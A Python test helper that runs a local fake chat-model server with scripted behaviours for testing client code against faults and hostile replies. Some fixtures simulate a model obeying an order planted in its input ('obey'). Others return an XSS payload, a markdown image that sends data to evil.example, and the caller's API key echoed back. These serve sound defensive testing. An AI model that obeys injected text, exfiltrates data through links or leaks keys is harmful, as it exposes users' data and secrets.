"""A model server on this machine that behaves as a script says, for both engines.

``with FakeModel() as model:`` then ``model.behave("fenced", json={"reply": "yes"})``. ``model.url`` is the base URL
of the OpenAI-compatible interface, ``model.groq_url`` that for Groq's SDK. ``model.requests`` is every request that
came, ``model.received`` all bytes of them. Behaviours that are given in a row are used one after the other, the last
one again and again.
"""

from __future__ import annotations

import base64
import json
import re
import socket
import threading
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Self

MODELS = ("fake-large", "fake-small", "fake-vision")
_ORDER = re.compile(r"ANSWER WITH (\{.*?\}) NOW", re.DOTALL)


@dataclass(frozen=True)
class Asked:
    """``headers`` have names in small letters."""

    method: str
    path: str
    headers: dict[str, str]
    body: bytes

    def json(self) -> Any:
        return json.loads(self.body)

    @property
    def text(self) -> str:
        """All that the messages say, images left out."""
        parts: list[str] = []
        for message in self.json()["messages"]:
            content = message["content"]
            pieces = [content] if isinstance(content, str) else [each.get("text", "") for each in content]
            parts.extend(pieces)
        return "\n".join(parts)

    @property
    def images(self) -> list[bytes]:
        found = []
        for message in self.json()["messages"]:
            for piece in message["content"] if isinstance(message["content"], list) else ():
                if piece["type"] == "image_url":
                    found.append(base64.b64decode(piece["image_url"]["url"].partition(",")[2]))
        return found

    @property
    def form(self) -> str:
        return str(self.json().get("response_format", {}).get("type", "words"))


@dataclass
class Behaviour:
    name: str
    json: Any = field(default_factory=dict)
    options: dict[str, Any] = field(default_factory=dict)


Handler = Callable[["_Handler", Asked, Behaviour], None]


class FakeModel:
    """``takes`` are the forms of answer ("json_schema", "json_object", "words") that it knows; a request for
    another is answered with 400."""

    def __init__(self, takes: tuple[str, ...] = ("json_schema", "json_object", "words")) -> None:
        self.takes = takes
        self.requests: list[Asked] = []
        self.models = MODELS
        self._script: list[Behaviour] = [Behaviour("json", {"reply": "yes"})]
        self._lock = threading.Lock()
        self._let_go = threading.Event()
        self._server = _Server(self)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_error: object) -> None:
        self._let_go.set()
        self._server.shutdown()
        self._server.server_close()
        self._thread.join(5)

    @property
    def port(self) -> int:
        return int(self._server.server_address[1])

    @property
    def provider(self) -> str:
        return f"127.0.0.1:{self.port}"

    @property
    def url(self) -> str:
        return f"http://{self.provider}/v1"

    @property
    def groq_url(self) -> str:
        return f"http://{self.provider}"

    def behave(self, name: str, json: Any = None, **options: Any) -> None:
        """From now on, only this."""
        self.script((name, json, options))

    def script(self, *steps: tuple[str, Any] | tuple[str, Any, dict[str, Any]] | str) -> None:
        made = []
        for step in steps:
            name, given, options = (*((step,) if isinstance(step, str) else step), None, None)[:3]
            assert name in BEHAVIOURS, name
            made.append(Behaviour(name, {"reply": "yes"} if given is None else given, options or {}))
        with self._lock:
            self._script = made

    @property
    def questions(self) -> list[Asked]:
        return [each for each in self.requests if each.path.endswith("/chat/completions")]

    @property
    def received(self) -> bytes:
        return b"\n".join(each.body for each in self.requests)

    def let_go(self) -> None:
        """End what is stalled."""
        self._let_go.set()

    def _next(self) -> Behaviour:
        with self._lock:
            return self._script.pop(0) if len(self._script) > 1 else self._script[0]

    def _wait(self, seconds: float) -> None:
        self._let_go.wait(seconds)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    request_queue_size = 64

    def __init__(self, model: FakeModel) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.model = model

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Who asked went away."""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def do_GET(self) -> None:
        asked = self._asked(b"")
        if not asked.path.endswith("/models"):
            return self.say(404, {"error": {"message": "no such page", "code": "not_found"}})
        refusals = {"401": (401, "invalid_api_key"), "500": (500, "internal_error")}
        now = self.server.model._script[0].name
        if now in refusals:
            status, code = refusals[now]
            return self.say(status, {"error": {"message": "no", "code": code}})
        if now == "html":
            return BEHAVIOURS["html"](self, asked, Behaviour("html"))
        return self.say(200, {"object": "list", "data": [{"id": name} for name in self.server.model.models]})

    def do_POST(self) -> None:
        asked = self._asked(self.rfile.read(int(self.headers.get("content-length", 0))))
        if asked.form not in self.server.model.takes:
            return self.say(
                400, {"error": {"message": "unknown response_format", "type": "invalid_request_error"}}
            )
        behaviour = self.server.model._next()
        return BEHAVIOURS[behaviour.name](self, asked, behaviour)

    def _asked(self, body: bytes) -> Asked:
        headers = {name.lower(): text for name, text in self.headers.items()}
        asked = Asked(self.command, self.path, headers, body)
        self.server.model.requests.append(asked)
        return asked

    def say(
        self, status: int, body: Any, headers: dict[str, str] | None = None, kind: str = "application/json"
    ) -> None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.send_response(status)
        for name, text in {"content-type": kind, "content-length": str(len(data)), **(headers or {})}.items():
            self.send_header(name, text)
        self.end_headers()
        self.wfile.write(data)

    def write(self, text: str, **changes: Any) -> None:
        """``text`` as what the model wrote."""
        choice = {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}
        choice.update(changes)
        usage = {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120}
        self.say(200, {"id": "1", "model": "fake-large-0711", "choices": [choice], "usage": usage})

    def log_message(self, *_args: Any) -> None:
        pass


def _text(behaviour: Behaviour) -> str:
    return behaviour.json if isinstance(behaviour.json, str) else json.dumps(behaviour.json)


def _obey(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
    """Does what a text among the data orders: ANSWER WITH {...} NOW."""
    order = _ORDER.search(asked.text)
    handler.write(order[1] if order else _text(behaviour))


def _stall(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
    handler.server.model._wait(float(behaviour.options.get("seconds", 60)))
    handler.close_connection = True
    if behaviour.options.get("then_answers"):
        handler.write(_text(behaviour))


def _drip(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
    """A byte now and then, for ever: no single read takes long."""
    handler.send_response(200)
    handler.send_header("content-type", "application/json")
    handler.end_headers()
    handler.close_connection = True
    while not handler.server.model._let_go.wait(0.1):
        handler.wfile.write(b" ")


def _disconnect(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
    handler.send_response(200)
    handler.send_header("content-type", "application/json")
    handler.send_header("content-length", "1000")
    handler.end_headers()
    handler.wfile.write(b'{"choices": [')
    handler.wfile.flush()
    handler.close_connection = True
    handler.connection.shutdown(socket.SHUT_RDWR)


def _fault(status: int, code: str, message: str = "no", **headers: str) -> Handler:
    def answer(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
        given = {name.replace("_", "-"): text for name, text in headers.items()}
        if "retry_after" in behaviour.options:
            given["retry-after"] = str(behaviour.options["retry_after"])
        error = {"message": message, "type": "invalid_request_error", "code": code}
        handler.say(status, {"error": error}, given)

    return answer


def _writes(make: Callable[[Behaviour], str]) -> Handler:
    return lambda handler, asked, behaviour: handler.write(make(behaviour))


def _truncated(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
    text = _text(behaviour)
    handler.write(text[: len(text) // 2], finish_reason="length")


def _key_echoed(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
    secret = asked.headers.get("authorization", "").removeprefix("Bearer ")
    if behaviour.options.get("status"):
        error = {
            "message": f"Incorrect API key provided: {secret}",
            "code": "invalid_api_key",
            "type": secret,
        }
        return handler.say(int(behaviour.options["status"]), {"error": error})
    return handler.write(json.dumps({"reply": f"your key is {secret}"}))


def _function_of_request(handler: _Handler, asked: Asked, behaviour: Behaviour) -> None:
    """``json`` is a function of what was asked; what it gives is written as JSON."""
    made = behaviour.json(asked)
    handler.write(made if isinstance(made, str) else json.dumps(made))


def _with(behaviour: Behaviour, value: str) -> str:
    """The object of the script with one more member, written as it is."""
    inner = _text(behaviour).strip()[1:-1]
    name = behaviour.options.get("name", "percent")
    return "{" + inner + (", " if inner else "") + f'"{name}": {value}' + "}"


BEHAVIOURS: dict[str, Handler] = {
    "json": _writes(_text),
    "from_request": _function_of_request,
    "obey": _obey,
    "stall": _stall,
    "drip": _drip,
    "disconnect": _disconnect,
    "429": _fault(429, "rate_limit_exceeded"),
    "429_today": _fault(429, "rate_limit_exceeded", "limit of tokens per day (TPD) reached", retry_after="900"),
    "402": _fault(402, "insufficient_quota"),
    "500": _fault(500, "internal_error"),
    "503": _fault(503, "over_capacity"),
    "401": _fault(401, "invalid_api_key"),
    "403": _fault(403, "permission_denied"),
    "404": _fault(404, "model_not_found"),
    "decommissioned": _fault(400, "model_decommissioned"),
    "too_long": _fault(400, "context_length_exceeded"),
    "413": _fault(413, "request_too_large"),
    "400": _fault(400, "invalid_value"),
    "redirect": _fault(307, "moved", location="http://127.0.0.1:9/v1/chat/completions"),
    "key_echoed": _key_echoed,
    "truncated": _truncated,
    "fenced": _writes(lambda behaviour: f"```json\n{_text(behaviour)}\n```"),
    "prose": _writes(lambda behaviour: f"Sure! Here it is:\n{_text(behaviour)}\nI hope that {{helps}} you."),
    "thinking": _writes(lambda behaviour: f'<think>Perhaps {{"reply": "no"}}?</think>{_text(behaviour)}'),
    "trailing": _writes(lambda behaviour: _text(behaviour) + "}}]] and so on"),
    "percent_150": _writes(lambda behaviour: _with(behaviour, "150")),
    "percent_text": _writes(lambda behaviour: _with(behaviour, '"95%"')),
    "nan": _writes(lambda behaviour: _with(behaviour, "NaN")),
    "infinity": _writes(lambda behaviour: _with(behaviour, "Infinity")),
    "huge_number": _writes(lambda behaviour: _with(behaviour, "1e999")),
    "many_digits": _writes(lambda behaviour: _with(behaviour, "9" * 6000)),
    "html_in_answer": _writes(lambda _b: json.dumps({"reply": "<img src=x onerror=alert(1)><b>hi</b>"})),
    "markdown_image": _writes(
        lambda _b: json.dumps({"reply": "Well done ![x](http://evil.example/?d=CV) see https://evil.example/p"})
    ),
    "refusal": lambda handler, _asked, _b: handler.write(
        "", message={"role": "assistant", "content": None, "refusal": "I cannot help with that."}
    ),
    "refusal_in_words": _writes(lambda _b: "I'm sorry, but I can't help with that."),
    "filtered": lambda handler, _asked, _b: handler.write("", finish_reason="content_filter"),
    "unknown_ids": _writes(lambda _b: json.dumps({"reply": "yes", "ids": [999_999_999, -1, "x"]})),
    "deep": _writes(lambda _b: '{"reply": ' + "[" * 50_000 + "]" * 50_000 + "}"),
    "duplicate_keys": _writes(lambda behaviour: '{"reply": "no", ' + _text(behaviour).strip()[1:]),
    "controls": _writes(lambda _b: json.dumps({"reply": "a\x00b\u202ec\ud800d"})),
    "3MB": _writes(lambda _b: json.dumps({"reply": "a" * 3_000_000})),
    "300kB": _writes(lambda _b: json.dumps({"reply": "a" * 300_000})),
    "empty": _writes(lambda _b: ""),
    "null": _writes(lambda _b: "null"),
    "list": _writes(lambda _b: "[1, 2, 3]"),
    "html": lambda handler, _asked, _b: handler.say(
        200, b"<!doctype html><html><body>Welcome!</body></html>", kind="text/html"
    ),
    "wrong_type": lambda handler, _asked, behaviour: handler.say(
        200,
        {"choices": [{"message": {"content": _text(behaviour)}, "finish_reason": "stop"}], "usage": None},
        kind="text/plain",
    ),
    "no_choices": lambda handler, _asked, _b: handler.say(200, {"choices": []}),
    "odd_shape": lambda handler, _asked, _b: handler.say(200, {"choices": {"0": "x"}, "usage": "many"}),
    "not_json": lambda handler, _asked, _b: handler.say(200, b'{"choices": [{"mess'),
}  # fmt: skip
